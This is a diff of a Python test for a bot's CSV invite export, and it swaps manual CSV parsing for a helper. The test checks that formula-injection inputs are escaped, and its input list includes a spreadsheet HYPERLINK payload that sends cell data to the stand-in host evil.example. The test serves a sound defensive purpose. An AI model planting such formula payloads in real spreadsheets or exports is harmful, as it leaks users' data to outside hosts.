@@ -2,7 +2,6 @@
 a .zip."""
 
 import asyncio
-import csv
 import io
 import re
 import zipfile
@@ -13,6 +12,7 @@ from bot.cli import main
 from bot.demo_reviews import sample_review
 from conversations.core.text import FILE_NAME_LIMIT
 from tests.conftest import COMMITTEE, record
+from tests.csv_helpers import invite_rows
 from tests.secretary_helpers import link
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1", "-2+3", "@SUM(A1)",
@@ -65,7 +65,7 @@ async def test_invites_csv_defuses_formulas(repos, clock, forms, org, tmp_path, 
     out_file = tmp_path / "codes.csv"
     assert await _kiemdiem("--db", db.path, "invites", "--format", "csv",
                            "--out", str(out_file)) == 0
-    rows = list(csv.DictReader(io.StringIO(out_file.read_text(encoding="utf-8-sig"))))
+    rows = invite_rows(out_file.read_text(encoding="utf-8-sig"))
     names = {r["full_name"] for r in rows}
     assert {"'" + name for name in FORMULAS} <= names
     assert "Trần Văn Đức" in names  # ordinary names are untouched
